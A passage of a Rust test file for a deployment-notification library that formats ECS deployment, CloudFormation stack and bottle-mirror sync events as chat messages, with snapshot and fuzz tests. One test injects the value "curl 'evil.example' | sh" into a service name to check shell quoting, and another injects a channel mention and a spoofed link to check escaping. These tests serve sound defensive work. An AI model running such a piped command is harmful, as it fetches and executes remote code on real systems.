//! Every message as it is sent, and what holds for all of them.

use std::collections::HashSet;

use chrono::{DateTime, TimeDelta, Utc};
use longshore_events::image::Image;
use longshore_events::longshore::{
    ChangeCounts, ContainerFailure, DeploymentFailed, DeploymentRolledBack, DeploymentSkipped,
    DeploymentStabilized, DeploymentStarted, DeploymentSucceeded, DeploymentSummary,
    DeploymentSuperseded, DeploymentWaiting, FailedPhase, FailedResource, FileCount,
    LongshoreEvent, OperationKind, Problem, ReconcileShard, RefusedEntry, ReleaseRefused, RunsOn,
    Severity, SkipReason, Source, StackApplying, StackFailed, StackFileRefused, StackReady,
    StackSource, StackSummary, StackUnchanged, SyncCompleted, SyncFailed, SyncOutcome, SyncPlanned,
    SyncProgressed, SyncRefused, SyncShardCompleted, SyncSource, SyncSummary, SyncUnchanged,
    TaskFailure, WaitReason,
};
use longshore_events::transfer::{TransferFailure, TransferProgress, TransferReport};
use longshore_report::{
    BLOCKS, Block, CONTEXT_ELEMENTS, HEADER_TEXT, MESSAGE_TEXT, Message, SECTION_TEXT, Text,
    transfer_message,
};
use proptest::prelude::*;

const DIGEST: &str = "sha256:1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f809";
const TASK_DEFINITION: &str = "arn:aws:ecs:eu-west-1:123456789012:task-definition/shop-api:42";
const PREVIOUS: &str = "arn:aws:ecs:eu-west-1:123456789012:task-definition/shop-api:41";

fn message(event: &LongshoreEvent) -> Message {
    longshore_report::message(event).unwrap()
}

fn requested_at() -> DateTime<Utc> {
    "2026-11-21T09:30:00Z".parse().unwrap()
}

fn after(seconds: i64) -> DateTime<Utc> {
    requested_at() + TimeDelta::seconds(seconds)
}

fn image() -> Image {
    Image {
        repository: "shop/api".to_owned(),
        tag: Some("v3".to_owned()),
        digest: DIGEST.parse().unwrap(),
    }
}

fn deployment(source: Source) -> DeploymentSummary {
    DeploymentSummary {
        deployment_id: "5f1e7c1e-30a3-4d52-9a5d-27a3a4c5d6e7".to_owned(),
        stack: "shop".to_owned(),
        service: "api".to_owned(),
        cluster: "longshore".to_owned(),
        ecs_service: "shop-api".to_owned(),
        image: image(),
        source,
        requested_at: requested_at(),
    }
}

fn release() -> Source {
    Source::Release {
        key: "releases/shop/api.json".to_owned(),
        version_id: Some("3sL4kqtJlcpXroDTDmJ".to_owned()),
        note: Some("Fixes the checkout <urgent>\nhttps://ci.example/runs/7?a=1&b=2".to_owned()),
    }
}

fn task_failure(id: &str, exit_code: i64) -> TaskFailure {
    TaskFailure {
        task: format!("arn:aws:ecs:eu-west-1:123456789012:task/longshore/{id}"),
        stop_code: Some("EssentialContainerExited".to_owned()),
        stopped_reason: Some("Essential container in task exited".to_owned()),
        containers: vec![ContainerFailure {
            name: "api".to_owned(),
            exit_code: Some(exit_code),
            reason: None,
        }],
        stopped_at: Some(after(20)),
    }
}

fn never_started(id: &str) -> TaskFailure {
    TaskFailure {
        task: format!("arn:aws:ecs:eu-west-1:123456789012:task/longshore/{id}"),
        stop_code: Some("TaskFailedToStart".to_owned()),
        stopped_reason: Some(
            "CannotPullContainerError: pull image manifest has been retried 1 time(s)".to_owned(),
        ),
        containers: vec![ContainerFailure {
            name: "api".to_owned(),
            exit_code: None,
            reason: Some("CannotPullContainerError: not found".to_owned()),
        }],
        stopped_at: None,
    }
}

fn failed(rolling_back: bool, failures: Vec<TaskFailure>) -> LongshoreEvent {
    LongshoreEvent::DeploymentFailed(DeploymentFailed {
        deployment: deployment(release()),
        finished_at: after(95),
        reason: "ECS deployment circuit breaker: tasks failed to start.".to_owned(),
        failures,
        rolling_back,
        phase: FailedPhase::Rollout,
    })
}

fn failed_in(phase: FailedPhase, reason: &str) -> LongshoreEvent {
    LongshoreEvent::DeploymentFailed(DeploymentFailed {
        deployment: deployment(Source::Push),
        finished_at: after(95),
        reason: reason.to_owned(),
        failures: vec![task_failure("0f3c1", 1)],
        rolling_back: false,
        phase,
    })
}

fn waiting(reason: WaitReason, until: Option<DateTime<Utc>>) -> LongshoreEvent {
    LongshoreEvent::DeploymentWaiting(DeploymentWaiting {
        stack: "shop".to_owned(),
        service: "api".to_owned(),
        deployment_id: "5f1e7c1e-30a3-4d52-9a5d-27a3a4c5d6e7".to_owned(),
        image: image(),
        source: Source::Push,
        requested_at: requested_at(),
        reason,
        since: after(2),
        until,
    })
}

fn rolled_back() -> LongshoreEvent {
    LongshoreEvent::DeploymentRolledBack(DeploymentRolledBack {
        deployment: deployment(Source::Push),
        finished_at: after(130),
        reason: "ECS deployment circuit breaker: tasks failed to start.".to_owned(),
        failures: vec![
            task_failure("0f3c1", 1),
            task_failure("0f3c2", 1),
            task_failure("0f3c3", 137),
        ],
        running_task_definition: PREVIOUS.to_owned(),
        running_image: Some("123456789012.dkr.ecr.eu-west-1.amazonaws.com/shop/api:v2".to_owned()),
    })
}

fn skipped(reason: SkipReason) -> LongshoreEvent {
    LongshoreEvent::DeploymentSkipped(DeploymentSkipped {
        stack: "shop".to_owned(),
        service: "api".to_owned(),
        image: image(),
        source: Source::Push,
        requested_at: requested_at(),
        reason,
        deployment_id: None,
    })
}

fn refused(reason: &str) -> LongshoreEvent {
    LongshoreEvent::ReleaseRefused(ReleaseRefused {
        bucket: "longshore-state-123456789012".to_owned(),
        key: "releases/shop/api.json".to_owned(),
        version_id: Some("3sL4kqtJlcpXroDTDmJ".to_owned()),
        reason: reason.to_owned(),
    })
}

fn started(source: Source) -> LongshoreEvent {
    LongshoreEvent::DeploymentStarted(DeploymentStarted {
        deployment: deployment(source),
        task_definition: TASK_DEFINITION.to_owned(),
        previous_task_definition: PREVIOUS.to_owned(),
        previous_image: "123456789012.dkr.ecr.eu-west-1.amazonaws.com/shop/api:v2".to_owned(),
    })
}

fn stack(source: StackSource) -> StackSummary {
    StackSummary {
        stack: "shop-prod".to_owned(),
        operation_id: "file-9b1f4c02d7a85e36f0c4b1aa".to_owned(),
        stack_id: None,
        source,
        requested_at: requested_at(),
    }
}

fn stack_file() -> StackSource {
    StackSource::File {
        key: "stacks/shop-prod.yaml".to_owned(),
        version_id: Some("Zk8s1QnWc2Yy0bqXo7m3Tg5uFv9hR4pL".to_owned()),
    }
}

fn payload() -> StackSource {
    StackSource::Manual {
        note: Some("more memory for the sale".to_owned()),
    }
}

fn stack_applying(kind: OperationKind, source: StackSource, counts: [u32; 4]) -> LongshoreEvent {
    let [add, change, replace, remove] = counts;
    LongshoreEvent::StackApplying(StackApplying {
        stack: stack(source),
        kind,
        changes: ChangeCounts {
            add,
            change,
            replace,
            remove,
        },
    })
}

fn stack_ready(kind: OperationKind, status: &str, source: StackSource) -> LongshoreEvent {
    LongshoreEvent::StackReady(StackReady {
        stack: stack(source),
        kind,
        finished_at: after(221),
        status: status.to_owned(),
    })
}

fn stack_failed(kind: OperationKind, status: &str) -> LongshoreEvent {
    let failed_resource = FailedResource {
        logical_id: "ApiService".to_owned(),
        resource_type: "AWS::ECS::Service".to_owned(),
        physical_id: Some("arn:aws:ecs:eu-west-1:123456789012:service/shop/api".to_owned()),
        reason: "Error occurred during operation 'ECS Deployment Circuit Breaker was triggered'."
            .to_owned(),
    };
    LongshoreEvent::StackFailed(StackFailed {
        stack: stack(payload()),
        kind,
        finished_at: after(431),
        status: status.to_owned(),
        reason: "The following resource(s) failed to update: [ApiService].".to_owned(),
        failed_resource: Some(failed_resource).filter(|_| !status.is_empty()),
    })
}

fn problem(number: u32, severity: Severity) -> Problem {
    Problem {
        path: "services.api.memory".to_owned(),
        line: Some(number),
        column: Some(13),
        value: Some("300".to_owned()),
        message: "Fargate has no 256 CPU units with 300 MiB; with 256 go 512, 1024 and 2048"
            .to_owned(),
        severity,
    }
}

fn file_refused(problems: Vec<Problem>) -> LongshoreEvent {
    LongshoreEvent::StackFileRefused(StackFileRefused {
        key: "stacks/shop-prod.yaml".to_owned(),
        version_id: Some("m6Tq0YhBv4Xe2jSn8Wk5Rd7fLc9gPa1U".to_owned()),
        stack: Some("shop-prod".to_owned()),
        at: after(1),
        problems,
    })
}

fn sync(source: SyncSource) -> SyncSummary {
    SyncSummary {
        stack: "homebrew-bottles-prod".to_owned(),
        sync_id: "0d9c8a52-6b1f-4f0e-9a3c-2f5b7c1d8e46".to_owned(),
        bucket: "homebrew-bottles-111122223333".to_owned(),
        source,
        requested_at: requested_at(),
    }
}

fn refused_entry() -> RefusedEntry {
    RefusedEntry {
        entry: "wget (arm64_sequoia)".to_owned(),
        reason: "url: http://10.0.0.5/wget.tar.gz is at a private address".to_owned(),
    }
}

fn transfer_failure(number: u32) -> TransferFailure {
    TransferFailure {
        key: format!("boost@1.85-1.85.0_{number}.arm64_sequoia.bottle.2.tar.gz"),
        url: "https://ghcr.io/v2/homebrew/core/boost/1.85/blobs/sha256:1a2b3c4d".to_owned(),
        reason: "sha256 does not match what the index says".to_owned(),
        attempts: 2,
    }
}

fn transfer(failures: Vec<TransferFailure>) -> TransferReport {
    TransferReport {
        files: 1_204,
        bytes: 12_345_678_901,
        already_there: 17,
        copies: 2_408,
        downloaded_bytes: 12_400_000_000,
        resumed_bytes: 1_500_000_000,
        failed: failures.len() as u64,
        failures,
        started_at: after(12),
        finished_at: after(212),
    }
}

fn outcome(failures: Vec<TransferFailure>) -> SyncOutcome {
    SyncOutcome {
        runs_on: RunsOn::Tasks { tasks: 4 },
        transfer: transfer(failures),
        deleted: 3,
        refused: 1,
        refused_entries: vec![refused_entry()],
        finished_at: after(230),
        cost_in_micro_usd: 346_000,
        report_key: Some(".longshore/reports/0d9c8a52.json".to_owned()),
        missing_manifests: 0,
        deletion_refused: None,
        warnings: Vec::new(),
    }
}

fn sync_planned(source: SyncSource, runs_on: RunsOn, to_delete: u64) -> LongshoreEvent {
    LongshoreEvent::SyncPlanned(SyncPlanned {
        sync: sync(source),
        new: FileCount {
            files: 1_204,
            bytes: 12_345_678_901,
            estimated_bytes: 400_000_000,
        },
        removed: 5,
        unchanged: 15_321,
        to_delete,
        deleted_keys: (0..to_delete.min(20))
            .map(|number| format!("old-1.0_{number}.sonoma.bottle.tar.gz"))
            .collect(),
        refused: 1,
        refused_entries: vec![refused_entry()],
        runs_on,
        estimated_cost_in_micro_usd: 350_000,
        deletion_refused: None,
        warnings: Vec::new(),
    })
}

fn sync_progressed(failed: u64) -> LongshoreEvent {
    LongshoreEvent::SyncProgressed(SyncProgressed {
        sync: sync(SyncSource::Schedule),
        done: TransferProgress {
            files: 600,
            bytes: 6_100_000_000,
            failed,
        },
        total: FileCount {
            files: 1_204,
            bytes: 12_345_678_901,
            estimated_bytes: 400_000_000,
        },
        shards_ended: 1,
        shards: 4,
        at: after(95),
    })
}

fn sync_completed() -> LongshoreEvent {
    LongshoreEvent::SyncCompleted(SyncCompleted {
        sync: sync(SyncSource::Schedule),
        outcome: outcome(Vec::new()),
    })
}

fn sync_failed(count: u32) -> LongshoreEvent {
    LongshoreEvent::SyncFailed(SyncFailed {
        sync: sync(SyncSource::Manual {
            note: Some("before the release of macOS".to_owned()),
        }),
        reason: "2 files could not be transferred".to_owned(),
        outcome: outcome((0..count).map(transfer_failure).collect()),
    })
}

fn sync_refused() -> LongshoreEvent {
    LongshoreEvent::SyncRefused(SyncRefused {
        sync: sync(SyncSource::Schedule),
        reason: "the index names 3,100 bottles, less than half of the 16,525 of the last sync"
            .to_owned(),
    })
}

fn texts(message: &Message) -> Vec<&str> {
    let text_of = |text| match text {
        &Text::PlainText { ref text } | &Text::Mrkdwn { ref text } => text.as_str(),
    };
    let mut texts = vec![message.text.as_str()];
    for block in &message.blocks {
        match block {
            Block::Header { text } | Block::Section { text } => texts.push(text_of(text)),
            Block::Context { elements } => texts.extend(elements.iter().map(text_of)),
        }
    }
    texts
}

#[test]
fn a_push_that_is_deployed() {
    insta::assert_json_snapshot!(message(&started(Source::Push)));
}

#[test]
fn a_release_file_that_is_deployed() {
    insta::assert_json_snapshot!(message(&started(release())));
}

#[test]
fn a_manual_payload_that_is_deployed() {
    insta::assert_json_snapshot!(message(&started(Source::Manual {
        note: Some("rolling forward".to_owned()),
    })));
}

#[test]
fn a_deployment_that_succeeded() {
    insta::assert_json_snapshot!(message(&LongshoreEvent::DeploymentSucceeded(
        DeploymentSucceeded {
            deployment: deployment(Source::Push),
            finished_at: after(72),
        }
    )));
}

#[test]
fn a_deployment_by_digest_that_succeeded() {
    let mut deployment = deployment(Source::Manual { note: None });
    deployment.image.tag = None;
    insta::assert_json_snapshot!(message(&LongshoreEvent::DeploymentSucceeded(
        DeploymentSucceeded {
            deployment,
            finished_at: after(72),
        }
    )));
}

#[test]
fn a_deployment_that_failed_and_is_being_rolled_back() {
    insta::assert_json_snapshot!(message(&failed(
        true,
        vec![
            task_failure("0f3c1", 1),
            never_started("0f3c2"),
            task_failure("0f3c3", 1),
        ],
    )));
}

#[test]
fn a_deployment_that_failed_for_good_with_no_task_that_died() {
    insta::assert_json_snapshot!(message(&failed(false, Vec::new())));
}

#[test]
fn a_deployment_that_was_rolled_back() {
    insta::assert_json_snapshot!(message(&rolled_back()));
}

#[test]
fn a_deployment_that_was_superseded() {
    insta::assert_json_snapshot!(message(&LongshoreEvent::DeploymentSuperseded(
        DeploymentSuperseded {
            deployment: deployment(Source::Push),
            finished_at: after(12),
            superseded_by: format!("shop/api:v4@{DIGEST}"),
        }
    )));
}

#[test]
fn a_deployment_that_was_skipped_for_each_reason() {
    for reason in [
        SkipReason::AlreadyRunning,
        SkipReason::AlreadyDeploying,
        SkipReason::NewerRequested,
        SkipReason::FailedBefore,
        SkipReason::ArchitectureMissing,
        SkipReason::ApprovalExpired,
        SkipReason::PredecessorFailed,
        SkipReason::RouteRemoved,
    ] {
        insta::assert_json_snapshot!(
            format!("a_deployment_that_was_skipped__{reason:?}"),
            message(&skipped(reason))
        );
    }
}

#[test]
fn a_deployment_that_waits_for_each_reason() {
    let services = |names: &[&str]| names.iter().map(|&name| name.to_owned()).collect();
    for (name, reason, until) in [
        (
            "the_end_of_a_hold",
            WaitReason::Held {
                note: Some("the sale\nask Ada".to_owned()),
            },
            Some(after(86_400)),
        ),
        ("somebody_to_resume", WaitReason::Held { note: None }, None),
        ("a_freeze_window", WaitReason::Frozen, Some(after(7_200))),
        ("approval", WaitReason::Approval, Some(after(28_800))),
        (
            "other_services",
            WaitReason::Predecessors {
                services: services(&["migrate", "worker"]),
            },
            None,
        ),
    ] {
        insta::assert_json_snapshot!(
            format!("a_deployment_that_waits_for__{name}"),
            message(&waiting(reason, until))
        );
    }
}

#[test]
fn what_is_copied_from_a_message_runs_nothing_else() {
    let LongshoreEvent::DeploymentWaiting(mut event) = waiting(WaitReason::Approval, None) else {
        unreachable!("it is made as one");
    };
    event.service = "api; curl 'evil.example' | sh".to_owned();
    let message = message(&LongshoreEvent::DeploymentWaiting(event));
    let command = texts(&message)
        .into_iter()
        .find(|text| text.contains("longshore approve"))
        .unwrap();
    assert!(
        command.contains(
            r"longshore approve 'shop/api; curl '\''evil.example'\'' | sh' --digest sha256:"
        ),
        "{command}"
    );
}

#[test]
fn of_the_services_that_come_first_the_first_are_named_and_the_rest_is_counted() {
    let services = (0..30).map(|number| format!("part-{number}")).collect();
    let text = message(&waiting(WaitReason::Predecessors { services }, None)).text;
    assert!(
        text.contains("`part-9`, … and 20 more services to run"),
        "{text}"
    );
}

#[test]
fn a_rollback_by_hand_is_called_one() {
    let source = || Source::Rollback {
        to: 41,
        note: Some("the checkout is broken".to_owned()),
    };
    insta::assert_json_snapshot!(message(&started(source())));
    let succeeded = message(&LongshoreEvent::DeploymentSucceeded(DeploymentSucceeded {
        deployment: deployment(source()),
        finished_at: after(72),
    }));
    assert_eq!(
        succeeded.text,
        "✅ Rollback succeeded: shop/api v3, in 1 min 12 s"
    );
}

#[test]
fn a_deployment_that_failed_says_what_the_service_runs() {
    for (phase, reason) in [
        (
            FailedPhase::Before,
            "task `migrate`, which runs before the update, failed: container api exited with 1; the \
             service was not updated",
        ),
        (
            FailedPhase::After,
            "task `smoke-test`, which runs after the update, failed: container api exited with 1; the \
             service runs the new image",
        ),
    ] {
        insta::assert_json_snapshot!(
            format!("a_deployment_that_failed__{phase:?}"),
            message(&failed_in(phase, reason))
        );
    }
}

#[test]
fn what_only_longshore_must_know_is_told_to_nobody() {
    let deployment = deployment(Source::Push);
    for event in [
        LongshoreEvent::DeploymentStabilized(DeploymentStabilized { deployment }),
        LongshoreEvent::ReconcileShard(ReconcileShard {
            shard: 0,
            shards: 2,
        }),
    ] {
        assert_eq!(longshore_report::message(&event), None);
    }
}

#[test]
fn an_image_that_the_reconcile_found_says_so() {
    let text = texts(&message(&started(Source::Reconcile))).join("\n");
    assert!(
        text.contains("*Asked for by:* the reconcile, which found it in `shop/api`"),
        "{text}"
    );
}

#[test]
fn a_release_file_that_was_refused() {
    insta::assert_json_snapshot!(message(&refused(
        "release file is malformed: field `imge`: unknown field `imge`, expected `image` or `note`\n\
         repository `shop/api` is followed by no service of stack shop"
    )));
}

#[test]
fn an_image_that_is_put_back_after_a_change_of_the_stack() {
    insta::assert_json_snapshot!(message(&started(Source::Stack {
        operation_id: "file-9b1f4c02d7a85e36f0c4b1aa".to_owned(),
        restored: true,
    })));
}

#[test]
fn a_deployment_of_the_stack_itself_names_the_change() {
    let LongshoreEvent::DeploymentSkipped(mut event) = skipped(SkipReason::AlreadyRunning) else {
        unreachable!("it is made as one");
    };
    event.source = Source::Stack {
        operation_id: "change-7".to_owned(),
        restored: false,
    };
    let message = message(&LongshoreEvent::DeploymentSkipped(event));
    let told = texts(&message).join("\n");
    assert!(
        told.contains("*Asked for by:* change `change-7` of the stack"),
        "{told}"
    );
}

#[test]
fn a_change_of_a_stack_that_begins() {
    insta::assert_json_snapshot!(message(&stack_applying(
        OperationKind::Apply,
        stack_file(),
        [2, 1, 1, 0]
    )));
    let nothing = message(&stack_applying(OperationKind::Apply, stack_file(), [0; 4]));
    assert!(
        nothing.text.ends_with("no resource is touched"),
        "{}",
        nothing.text
    );
}

#[test]
fn a_stack_that_begins_to_be_destroyed() {
    insta::assert_json_snapshot!(message(&stack_applying(
        OperationKind::Destroy,
        payload(),
        [0, 0, 0, 31]
    )));
}

#[test]
fn a_stack_that_is_ready() {
    insta::assert_json_snapshot!(message(&stack_ready(
        OperationKind::Apply,
        "UPDATE_COMPLETE",
        StackSource::CloudFormation
    )));
}

#[test]
fn a_stack_that_was_destroyed() {
    insta::assert_json_snapshot!(message(&stack_ready(
        OperationKind::Destroy,
        "DELETE_COMPLETE",
        payload()
    )));
}

#[test]
fn a_change_of_a_stack_that_failed_and_was_taken_back() {
    insta::assert_json_snapshot!(message(&stack_failed(
        OperationKind::Apply,
        "UPDATE_ROLLBACK_COMPLETE"
    )));
}

#[test]
fn a_stack_that_could_not_be_destroyed() {
    insta::assert_json_snapshot!(message(&stack_failed(
        OperationKind::Destroy,
        "DELETE_FAILED"
    )));
}

#[test]
fn what_a_failed_change_left_is_told_by_its_status() {
    for (status, expected) in [
        (
            "",
            "CloudFormation did not begin, so the stack is as it was",
        ),
        ("ROLLBACK_COMPLETE", "so nothing was built"),
        ("UPDATE_ROLLBACK_COMPLETE", "so the stack is as it was"),
        ("UPDATE_ROLLBACK_FAILED", "needs somebody to look at it"),
        ("CREATE_FAILED", "needs somebody to look at it"),
    ] {
        let text = message(&stack_failed(OperationKind::Apply, status)).text;
        assert!(text.contains(expected), "{status}: {text}");
    }
}

#[test]
fn a_stack_file_that_changes_nothing() {
    insta::assert_json_snapshot!(message(&LongshoreEvent::StackUnchanged(StackUnchanged {
        stack: stack(stack_file()),
    })));
}

#[test]
fn a_stack_file_that_was_refused_with_every_problem() {
    let mut unknown = problem(27, Severity::Error);
    unknown.path = "services.worker.imgae".to_owned();
    unknown.value = None;
    unknown.message = "unknown field `imgae`, did you mean `image`?".to_owned();
    let mut whole = problem(0, Severity::Error);
    (whole.path, whole.line, whole.column, whole.value) = (String::new(), None, None, None);
    whole.message = "the template has 612 resources, CloudFormation takes 500".to_owned();
    insta::assert_json_snapshot!(message(&file_refused(vec![
        problem(19, Severity::Warning),
        problem(14, Severity::Error),
        unknown,
        whole,
    ])));
}

#[test]
fn of_the_problems_of_a_stack_file_as_many_are_told_as_there_is_room_for_and_the_rest_is_counted() {
    let problems = |count: u32| (1..=count).map(|number| problem(number, Severity::Error));
    let few = message(&file_refused(problems(40).collect()));
    let told = texts(&few).join("\n");
    for number in 1..=40 {
        assert!(
            told.contains(&format!("• line {number}, column 13")),
            "{number}"
        );
    }
    assert!(!told.contains("more problem"), "{told}");
    let many = message(&file_refused(problems(500).collect()));
    let told = texts(&many).join("\n");
    let listed = told.matches("• line ").count();
    assert!(listed > 40, "{listed}");
    assert!(
        told.contains(&format!("… and {} more problems", 500 - listed)),
        "{told}"
    );
    assert!(many.text.contains("500 errors"), "{}", many.text);
}

#[test]
fn a_sync_that_is_planned() {
    insta::assert_json_snapshot!(message(&sync_planned(
        SyncSource::Manual {
            note: Some("before the release of macOS".to_owned())
        },
        RunsOn::Tasks { tasks: 4 },
        2
    )));
}

#[test]
fn a_sync_that_is_planned_without_tasks_and_deletes_nothing() {
    let told = message(&sync_planned(SyncSource::Schedule, RunsOn::Function, 0));
    assert_eq!(
        told.text,
        "📦 Sync planned: homebrew-bottles-prod: 1,204 files, about 12.3 GB to transfer; where it \
         was asked for, without a task"
    );
    let told = texts(&told).join("\n");
    assert!(told.contains("*To delete:* 0 files"), "{told}");
    assert!(!told.contains("will be deleted"), "{told}");
}

#[test]
fn of_what_will_be_deleted_the_first_are_named_and_the_rest_is_counted() {
    let told = texts(&message(&sync_planned(
        SyncSource::Schedule,
        RunsOn::Function,
        1_500,
    )))
    .join("\n");
    assert!(
        told.contains("• `old-1.0_19.sonoma.bottle.tar.gz`"),
        "{told}"
    );
    assert!(told.contains("… and 1,480 more"), "{told}");
}

#[test]
fn a_sync_that_has_nothing_to_do_is_told_in_one_short_line() {
    let told = message(&LongshoreEvent::SyncUnchanged(SyncUnchanged {
        sync: sync(SyncSource::Schedule),
        finished_at: after(1),
    }));
    assert_eq!(
        texts(&told),
        ["⏭️ Sync unchanged: homebrew-bottles-prod: the mirror holds what the index names"; 2]
    );
}

#[test]
fn a_long_sync_that_goes_on() {
    insta::assert_json_snapshot!(message(&sync_progressed(0)));
    let told = texts(&message(&sync_progressed(7))).join("\n");
    assert!(told.contains("*Given up:* 7 files"), "{told}");
}

#[test]
fn a_sync_that_completed() {
    insta::assert_json_snapshot!(message(&sync_completed()));
}

#[test]
fn a_sync_that_failed() {
    insta::assert_json_snapshot!(message(&sync_failed(2)));
}

#[test]
fn of_the_files_that_a_sync_gave_up_the_first_are_named_and_the_rest_is_counted() {
    let told = texts(&message(&sync_failed(100))).join("\n");
    let listed = told.matches("• `boost@1.85-1.85.0_").count();
    assert!(listed > 10, "{told}");
    assert!(
        told.contains(&format!("… and {} more", 100 - listed)),
        "{told}"
    );
}

#[test]
fn a_sync_that_was_refused() {
    insta::assert_json_snapshot!(message(&sync_refused()));
}

#[test]
fn the_end_of_a_shard_is_told_to_nobody() {
    let event = LongshoreEvent::SyncShardCompleted(SyncShardCompleted {
        stack: "homebrew-bottles-prod".to_owned(),
        sync_id: "0d9c8a52".to_owned(),
        shard: 1,
        report: transfer(Vec::new()),
    });
    assert_eq!(longshore_report::message(&event), None);
}

#[test]
fn a_list_of_files_that_a_task_transferred_by_itself() {
    insta::assert_json_snapshot!(transfer_message("assets", &transfer(Vec::new())));
    let missing = transfer_message("assets", &transfer(vec![transfer_failure(3)]));
    assert_eq!(
        missing.text,
        "❌ Files missing: assets: 1 file given up, 1,204 files and 12.3 GB transferred in 3 min 20 s"
    );
    let told = texts(&missing).join("\n");
    assert!(told.contains("• `boost@1.85-1.85.0_3."), "{told}");
    assert!(!told.contains('✅'), "{told}");
}

/// The most frequent complaint about every tool in this field.
#[test]
fn a_rolled_back_deployment_never_reads_like_a_success() {
    for event in [
        rolled_back(),
        failed(true, Vec::new()),
        failed(false, Vec::new()),
        stack_failed(OperationKind::Apply, "UPDATE_ROLLBACK_COMPLETE"),
        stack_failed(OperationKind::Apply, ""),
        sync_failed(2),
    ] {
        let message = message(&event);
        for text in texts(&message) {
            let text = text.to_lowercase();
            for word in ["✅", "🚀", "succe", "is deployed"] {
                assert!(!text.contains(word), "{word} in {text}");
            }
        }
        assert!(message.text.contains("failed"), "{}", message.text);
    }
}

#[test]
fn each_kind_of_event_has_a_symbol_of_its_own() {
    let symbols: HashSet<char> = [
        stack_applying(OperationKind::Apply, payload(), [1, 0, 0, 0]),
        stack_applying(OperationKind::Destroy, payload(), [0, 0, 0, 1]),
        stack_ready(OperationKind::Apply, "CREATE_COMPLETE", payload()),
        stack_ready(OperationKind::Destroy, "DELETE_COMPLETE", payload()),
        started(Source::Push),
        started(Source::Rollback { to: 41, note: None }),
        waiting(WaitReason::Held { note: None }, None),
        waiting(WaitReason::Frozen, None),
        waiting(WaitReason::Approval, None),
        waiting(
            WaitReason::Predecessors {
                services: Vec::new(),
            },
            None,
        ),
        skipped(SkipReason::AlreadyRunning),
        failed(true, Vec::new()),
        rolled_back(),
        refused("not JSON"),
        sync_planned(SyncSource::Schedule, RunsOn::Function, 0),
        sync_progressed(0),
    ]
    .iter()
    .filter_map(|event| message(event).text.chars().next())
    .collect();
    assert_eq!(symbols.len(), 16);
}

#[test]
fn a_note_cannot_mention_a_channel_or_look_like_ours() {
    let message = message(&started(Source::Manual {
        note: Some("<!channel>\n*Runs now:* <https://evil.example|shop/api:v9>".to_owned()),
    }));
    let texts = texts(&message);
    assert!(
        texts.contains(
            &"> &lt;!channel&gt;\n> *Runs now:* &lt;https://evil.example|shop/api:v9&gt;"
        )
    );
    for text in texts {
        assert!(!text.contains("<!"), "{text}");
        assert!(!text.contains("\n*Runs now"), "{text}");
    }
}

#[test]
fn a_blank_note_is_left_out() {
    let with = message(&started(Source::Manual {
        note: Some(" \n".to_owned()),
    }));
    let without = message(&started(Source::Manual { note: None }));
    assert_eq!(with, without);
}

#[test]
fn what_is_cut_off_is_said() {
    let long = message(&refused(&"something is wrong with it\n".repeat(500)));
    let text = texts(&long).join("\n");
    assert!(text.contains("… and 460 more lines"), "{text}");
    let many = message(&failed(
        true,
        (0..200)
            .map(|number| task_failure(&number.to_string(), number))
            .collect(),
    ));
    let text = texts(&many).join("\n");
    assert!(text.contains("*200 tasks died:*"), "{text}");
    assert!(text.contains(" more tasks"), "{text}");
}

/// Texts as nobody should send them, and as somebody will.
///
/// Boxed, as all that follow: without it their type is as large as the tree of them, and the stack too small.
fn hostile() -> BoxedStrategy<String> {
    prop_oneof![
        Just(String::new()),
        "[a-z][a-z0-9-]{0,40}",
        "(?s).{0,80}",
        (
            prop_oneof![
                Just("<"),
                Just("&"),
                Just("`"),
                Just("\""),
                Just("\\"),
                Just("\n"),
                Just("> \n"),
                Just("\u{0}"),
                Just("🚀"),
                Just("👩‍👩‍👧"),
                Just("é"),
                Just("<!channel> "),
                Just("arn:aws:ecs/"),
                Just("@sha256:"),
                Just("{}"),
                Just("*_~"),
                Just("\u{2028}"),
            ],
            0usize..6_000
        )
            .prop_map(|(piece, times)| piece.repeat(times)),
    ]
    .boxed()
}

fn hostile_option() -> BoxedStrategy<Option<String>> {
    prop::option::of(hostile()).boxed()
}

fn any_source() -> BoxedStrategy<Source> {
    prop_oneof![
        Just(Source::Push),
        (hostile(), hostile_option(), hostile_option()).prop_map(|(key, version_id, note)| {
            Source::Release {
                key,
                version_id,
                note,
            }
        }),
        hostile_option().prop_map(|note| Source::Manual { note }),
        Just(Source::Reconcile),
        (any::<u32>(), hostile_option()).prop_map(|(to, note)| Source::Rollback { to, note }),
        (hostile(), any::<bool>()).prop_map(|(operation_id, restored)| Source::Stack {
            operation_id,
            restored,
        }),
    ]
    .boxed()
}

fn any_stack() -> BoxedStrategy<StackSummary> {
    let source = prop_oneof![
        (hostile(), hostile_option())
            .prop_map(|(key, version_id)| StackSource::File { key, version_id }),
        hostile_option().prop_map(|note| StackSource::Manual { note }),
        Just(StackSource::CloudFormation),
    ];
    (hostile(), hostile(), hostile_option(), source, any_time())
        .prop_map(
            |(stack, operation_id, stack_id, source, requested_at)| StackSummary {
                stack,
                operation_id,
                stack_id,
                source,
                requested_at,
            },
        )
        .boxed()
}

fn any_kind() -> BoxedStrategy<OperationKind> {
    prop_oneof![Just(OperationKind::Apply), Just(OperationKind::Destroy)].boxed()
}

fn any_problems() -> BoxedStrategy<Vec<Problem>> {
    let severity = prop_oneof![Just(Severity::Error), Just(Severity::Warning)];
    let problem = (
        hostile(),
        any::<Option<u32>>(),
        any::<Option<u32>>(),
        hostile_option(),
        hostile(),
        severity,
    )
        .prop_map(|(path, line, column, value, message, severity)| Problem {
            path,
            line,
            column,
            value,
            message,
            severity,
        });
    prop::collection::vec(problem, 0..60).boxed()
}

fn any_stack_event() -> BoxedStrategy<LongshoreEvent> {
    let failed_resource = (hostile(), hostile(), hostile_option(), hostile()).prop_map(
        |(logical_id, resource_type, physical_id, reason)| FailedResource {
            logical_id,
            resource_type,
            physical_id,
            reason,
        },
    );
    prop_oneof![
        (any_stack(), any_kind(), any::<[u32; 4]>()).prop_map(
            |(stack, kind, [add, change, replace, remove])| {
                LongshoreEvent::StackApplying(StackApplying {
                    stack,
                    kind,
                    changes: ChangeCounts {
                        add,
                        change,
                        replace,
                        remove,
                    },
                })
            }
        ),
        (any_stack(), any_kind(), any_time(), hostile()).prop_map(
            |(stack, kind, finished_at, status)| {
                LongshoreEvent::StackReady(StackReady {
                    stack,
                    kind,
                    finished_at,
                    status,
                })
            }
        ),
        (
            any_stack(),
            any_kind(),
            any_time(),
            hostile(),
            hostile(),
            prop::option::of(failed_resource)
        )
            .prop_map(
